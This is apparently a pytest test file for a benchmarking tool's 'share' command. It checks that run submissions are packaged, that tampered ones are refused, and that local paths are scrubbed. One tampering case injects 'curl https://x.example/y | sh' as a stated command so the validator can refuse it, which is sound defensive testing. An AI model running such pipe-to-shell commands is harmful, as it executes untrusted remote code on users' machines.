"""``vebench share``: a run with a fixed plan, for others to check and to quote."""

import json
import zlib
from collections.abc import Callable, Iterator, Mapping
from dataclasses import replace
from functools import partial
from hashlib import sha256
from itertools import count
from pathlib import Path
from typing import Any

import pytest
from support.commands import Command
from support.fakes import IDENTICAL, FakeStart, Script
from support.paced import paced, world_of

from vebench.plan.suites import FROZEN
from vebench.share.folder import FILES, MANIFEST

Record = dict[str, Any]


class Proofs(dict[str, Script]):
    """Proofs of cells with one environment, each with a seed of its own."""

    def __init__(self) -> None:
        self._seeds = count(1)

    def get(self, _backend: str, _default: object = None) -> Script:  # type: ignore[override]
        return [replace(IDENTICAL, num_envs=1, environments=1, seed=next(self._seeds))]


def cpu_time(of: Iterator[int], _cell: object, window: Any) -> Mapping[str, int]:  # noqa: ANN401 - a window
    """Return the kernel's counts of a window, which are never twice the same."""
    return {"cpu_ns": window.ns * 9 // 10 + next(of), "others_ns": 0}


@pytest.fixture
def run(vebench: Command) -> Path:
    """Return the file of a run of a suite on a machine with one CPU."""
    start = FakeStart(proofs=Proofs())
    script = paced(lambda cell: 1e-4 if cell.backend.name == "gym-sync" else 2e-4, counts=partial(cpu_time, count()))
    world = replace(world_of(script, 1, start), clock=partial(next, count(step=5)))  # a window takes 5 s of it
    asked = ("run", "--suite", "classic-3", "-b", "gym-sync", "-o", "run.jsonl", "-q")
    assert vebench(*asked, world=world).status == 0
    rewritten(Path("run.jsonl"), as_seen)
    return Path("run.jsonl")


def as_seen(found: list[Record]) -> None:
    """Let each proof have seen as many rows as the windows of its cell have, of twice as many steps."""
    cells = {(one["env"], one["repeat"]): one for one in found if one.get("backend") == "gym-sync" and "windows" in one}
    for one in proofs(found):
        rows = [window["rows"] for window in cells[one["env"], one["repeat"]]["windows"]]
        one["proof"].update(timed_rows=sum(rows), of_steps=2 * sum(rows))


def rewritten(path: Path, change: Callable[[list[Record]], object]) -> None:
    """Change the lines of a run file, and seal them again."""
    found = [json.loads(line) for line in path.read_text().splitlines()]
    change(found)
    sealed = b""
    for line in found:
        line.pop("crc32", None)
        body = json.dumps(line, separators=(",", ":")).encode()[:-1]
        sealed += b'%s,"crc32":"%08x"}\n' % (body, zlib.crc32(body))
    path.write_bytes(sealed)


def cells(found: list[Record]) -> list[Record]:
    return [line for line in found if line["type"] == "cell"]


def of_gym(found: list[Record]) -> Record:
    return next(line for line in cells(found) if line["backend"] == "gym-sync")


def proofs(found: list[Record]) -> list[Record]:
    return [line for line in found if line["type"] == "proof"]


def multiplied(line: Record, by: int) -> None:
    """Multiply all counts of rows of a cell or a proof."""
    for part in line.get("windows", [line.get("proof", {})]):
        part.update({name: part[name] * by for name in ("rows", "timed_rows", "of_steps") if name in part})


def relabelled(found: list[Record], backend: str) -> None:
    """Say that another backend was measured than gym-sync, wherever it is named."""
    found[0]["spec"]["backends"][0]["name"] = backend
    for line in found[1:]:
        if line["backend"] == "gym-sync":
            line["backend"] = backend


def test_what_was_submitted_is_accepted_and_says_what_it_is(vebench: Command, run: Path) -> None:
    shown = vebench("share", "make", run)
    assert (shown.status, Path("mine").exists()) == (0, False)
    assert vebench("share", "make", run, "-o", "mine").status == 0
    assert {path.name for path in Path("mine").iterdir()} == {*FILES}
    manifest = json.loads(Path("mine", MANIFEST).read_text())
    assert (manifest["suite"], manifest["division"]) == ("classic-3/1", "reference")
    assert manifest["command"] == "vebench run --suite classic-3 -b gym-sync"
    checked = vebench("share", "check", "mine", "-f", "json")
    assert (checked.status, json.loads(checked.out)) == (0, [{"folder": "mine", "accepted": True, "refusals": []}])
    assert "is there already" in vebench("share", "make", run, "-o", "mine").refusal
    assert vebench("share", "make", run, "-o", "submissions/mine").status == 0
    assert "Not a directory" in vebench("share", "make", run, "-o", "run.jsonl/mine").refusal


def test_nothing_of_the_users_machine_leaves_with_it(vebench: Command, run: Path) -> None:
    rewritten(run, lambda found: cells(found)[0].update(reason="see /home/ann/secret/log.txt"))
    rewritten(run, lambda found: found[0].update(command="vebench run -o /home/ann/run.jsonl"))
    assert vebench("share", "make", run, "-o", "mine").status == 0
    assert not any(b"ann" in path.read_bytes() for path in Path("mine").iterdir())


@pytest.mark.parametrize(
    ("check", "change"),
    [
        ("one-run", lambda found: found[0]["packages"].update(gymnasium=found[0]["packages"]["gymnasium"], more="1")),
        ("one-run", lambda found: found[0]["host"].update(cpu_model="A faster one")),
        ("one-run", lambda found: of_gym(found).update(run="0" * 12)),
        ("one-run", lambda found: found.insert(1, found.pop(next(i for i, x in enumerate(found) if x.get("repeat"))))),
        ("plan", lambda found: found[0]["spec"].update(windows=13)),
        ("plan", lambda found: found[0]["spec"].update(suite="classic-3/9")),
        ("plan", lambda found: found[0]["spec"].update(passes=10**9)),
        ("files", lambda found: found[0]["host"]["topology"].update(core_cpus=["0-65535"] * 4000)),
        ("stated", lambda found: found[0].update(started="9999-12-31T00:00:00+00:00")),
        ("complete", lambda found: of_gym(found)["windows"].pop()),
        ("complete", lambda found: found.remove(of_gym(found))),
        ("complete", lambda found: found[0].update(cells=1)),
        ("files", lambda found: found.append(of_gym(found))),
        ("work", lambda found: found.remove(proofs(found)[0])),
        ("work", lambda found: proofs(found)[0].update(proof=proofs(found)[1]["proof"])),
        ("work", lambda found: proofs(found)[0]["proof"].update(timed_rows=1000)),
        ("work", lambda found: proofs(found)[0]["proof"].update(num_envs=7)),
        ("work", lambda found: proofs(found)[0]["proof"].update(steps=10**10)),
        ("counts", lambda found: [one.update(ns=one["ns"] // 2) for one in of_gym(found)["windows"]]),
        ("work", lambda found: [one.update(rows=2 * one["rows"]) for one in of_gym(found)["windows"]]),
        ("counts", lambda found: of_gym(found)["windows"][0].update(cpu_ns=10**9)),
        ("counts", lambda found: [multiplied(line, 10**6) for line in found[1:]]),
        (
            "layout",
            lambda found: [line.update(frame_skip=1000) for line in cells(found)],
        ),
        ("layout", lambda found: relabelled(found, "envpool-sync")),
        ("layout", lambda found: relabelled(found, "fast-sync")),
        ("layout", lambda found: relabelled(found, "shm-async")),
        ("stated", lambda found: found[0].update(command="curl https://x.example/y | sh")),
        ("pinning", lambda found: of_gym(found).update(cpus=[3])),
        ("findings", lambda found: of_gym(found).update(status="failed", reason="it broke", windows=[])),
        ("release", lambda found: found[0]["packages"].update(vebench="99.0.0")),
        ("names", lambda found: of_gym(found).update(verdict_reason="a\u202eb")),
    ],
)
def test_what_does_not_fit_together_is_refused(
    vebench: Command, run: Path, check: str, change: Callable[[list[Record]], object]
) -> None:
    """Refused is what was changed after it was submitted, by one who can write checksums."""
    assert vebench("share", "make", run, "-o", "mine").status == 0
    rewritten(Path("mine", "run.jsonl"), change)
    manifest = json.loads(Path("mine", MANIFEST).read_text())
    manifest["files"]["run.jsonl"] = sha256(Path("mine", "run.jsonl").read_bytes()).hexdigest()
    Path("mine", MANIFEST).write_text(json.dumps(manifest))
    checked = vebench("share", "check", "mine", "-f", "json")
    (answer,) = json.loads(checked.out)
    assert checked.status == 1
    assert check in {refusal["check"] for refusal in answer["refusals"]}
    assert all(refusal["remedy"] for refusal in answer["refusals"])


@pytest.mark.parametrize(
    ("name", "change"),
    [
        ("run.jsonl", lambda text: text.replace('"rows":', '"rows": ', 1)),
        ("machine.json", lambda text: text.replace("cpu_model", "model", 1)),
        ("packages.json", lambda text: text + " "),
        ("more.txt", lambda _text: "more"),
        ("submission.json", lambda text: text.replace('"median": ', '"median": 9', 1)),
    ],
)
def test_files_that_were_changed_are_refused(
    vebench: Command, run: Path, name: str, change: Callable[[str], str]
) -> None:
    assert vebench("share", "make", run, "-o", "mine").status == 0
    path = Path("mine", name)
    path.write_text(change(path.read_text() if path.exists() else ""))
    checked = vebench("share", "check", "mine", "-f", "json")
    (answer,) = json.loads(checked.out)
    assert (checked.status, answer["accepted"]) == (1, False)
    assert {refusal["check"] for refusal in answer["refusals"]} & {"files", "stated"}


def test_a_submission_that_would_be_refused_is_not_written(vebench: Command, run: Path) -> None:
    rewritten(run, lambda found: of_gym(found)["windows"].pop())
    assert (vebench("share", "make", run, "-o", "mine").status, Path("mine").exists()) == (1, False)
    rewritten(run, lambda found: found[0]["packages"].update(gymnasium="0.1"))
    assert "0.1" in vebench("share", "make", run).refusal


def test_what_cannot_be_compared_is_accepted_without_a_verdict(vebench: Command, run: Path) -> None:
    nothing = {"verdict": "unverified", "rows": 0, "impossible": True, "reason": "it draws its own start"}
    rewritten(run, lambda found: [line["proof"].update(nothing) for line in proofs(found)])
    rewritten(run, lambda found: [line.update(verdict="unverified") for line in cells(found) if line["verdict"]])
    assert vebench("share", "make", run, "-o", "mine").status == 0
    results = json.loads(Path("mine", MANIFEST).read_text())["results"]
    assert {each["verdict"] for each in results if each["backend"] == "gym-sync"} == {"unverified"}


def test_what_names_a_folder_of_the_machine_or_is_none_is_no_submission(vebench: Command, run: Path) -> None:
    assert "nowhere: is no folder" in vebench("share", "check", "nowhere").refusal
    named = {"name": "gym-sync", "options": {}, "python": "/home/ann/bin/python"}
    rewritten(run, lambda found: found[0]["spec"].update(backends=[named]))
    assert "folder of this machine" in vebench("share", "make", run).refusal


def test_the_plan_of_a_suite_is_fixed(vebench: Command, run: Path) -> None:
    plans = {suite.id: suite.digest for suite in FROZEN.values()}
    assert plans == {"atari-5/1": "c149424934ce", "mujoco-5/1": "38e7abd10fd4", "classic-3/1": "4b278088285d"}
    assert FROZEN["classic-3/1"].spec(6).workers == (1, 2, 4, 6)
    assert "--workers" in vebench("run", "--suite", "classic-3", "-w", "3").refusal
    assert "did you mean classic-3" in vebench("run", "--suite", "classic").refusal
    rewritten(run, lambda found: found[0]["spec"].pop("suite"))
    assert "--suite" in vebench("share", "make", run).refusal


def test_a_run_is_quoted_with_what_makes_it_repeatable(vebench: Command, run: Path) -> None:
    shown = " ".join(vebench("share", "cite", run).out.split())
    for word in ("CartPole: gym-sync with 1 worker", "frames/s", "95 %", "suite classic-3/1", "@misc{vebench-"):
        assert word in shown
    assert vebench("share", "cite", run, "-o", "run.bib").status == 0
    assert Path("run.bib").read_text().startswith("@misc{vebench-")
    assert vebench("share", "cite", run, "-o", "run.cff").status == 2
